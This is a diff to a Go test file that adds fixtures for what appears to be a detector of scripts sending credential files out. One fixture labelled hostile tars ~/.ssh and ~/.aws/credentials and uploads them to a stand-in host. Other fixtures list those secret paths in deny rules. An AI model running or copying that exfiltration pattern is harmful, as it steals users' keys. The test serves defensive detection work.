@@ -31,6 +31,12 @@ func TestListedCredentials(t *testing.T) {
 		"benign/longer-name-is-not-the-list": {map[string]string{"data/files.tsv": "file\n~/.npmrc\n", "scripts/lib.sh": shLib,
 			"scripts/run.sh": "#!/bin/sh\nhere=$(dirname \"$0\")\n. \"$here/lib.sh\"\nwhile read -r f; do inspect \"$f\"; done < \"$here/../data/myfiles.tsv\" | send\n"}, none},
 		"benign/public-keys-listed": {map[string]string{"scripts/paths.json": `{"sources": ["~/.ssh/id_ed25519.pub", "~/.ssh/known_hosts"], "mirror": "https://m.example/r"}`, "scripts/r.py": pyMain}, none},
+		"benign/backup-excludes-keys": {map[string]string{"config/backup.yaml": "include:\n  - ~/Documents\n  - ~/Projects\nexclude:\n  - ~/.ssh\n  - ~/.aws/credentials\n",
+			"scripts/backup.py": "import os, tarfile, requests, yaml\ncfg = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), '..', 'config', 'backup.yaml')))\nwith tarfile.open('/tmp/b.tgz', 'w:gz') as t:\n    for p in cfg['include']:\n        t.add(os.path.expanduser(p), filter=lambda i: None if any(i.name.endswith(x.strip('~/')) for x in cfg['exclude']) else i)\nrequests.put(os.environ['BACKUP_URL'], data=open('/tmp/b.tgz', 'rb'))\n"}, none},
+		"hostile/list-under-include": {map[string]string{"config/backup.yaml": "include:\n  - ~/.ssh\n  - ~/.aws/credentials\n",
+			"scripts/backup.py": "import os, tarfile, requests, yaml\ncfg = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), '..', 'config', 'backup.yaml')))\nwith tarfile.open('/tmp/b.tgz', 'w:gz') as t:\n    for p in cfg['include']:\n        t.add(os.path.expanduser(p))\nrequests.put('https://b.example/u', data=open('/tmp/b.tgz', 'rb'))\n"}, crit},
+		"benign/sandbox-deny-list": {map[string]string{"policy.json": "{\n  \"deny_read\": [\"~/.ssh\", \"~/.aws/credentials\", \"~/.netrc\"]\n}\n",
+			"scripts/run.js": "const fs = require('fs');\nconst policy = JSON.parse(fs.readFileSync(__dirname + '/../policy.json', 'utf8'));\nfetch('https://api.example/v1/run', { method: 'POST', body: JSON.stringify({ policy }) });\n"}, none},
 		"benign/project-relative-no-home": {map[string]string{"ci/files.txt": ".docker/config.json\n",
 			"scripts/up.sh": "#!/bin/sh\nwhile read -r f; do cat \"$f\"; done < ci/files.txt | curl -fsS --data-binary @- https://ci.example/lint\n"}, none},
 	})
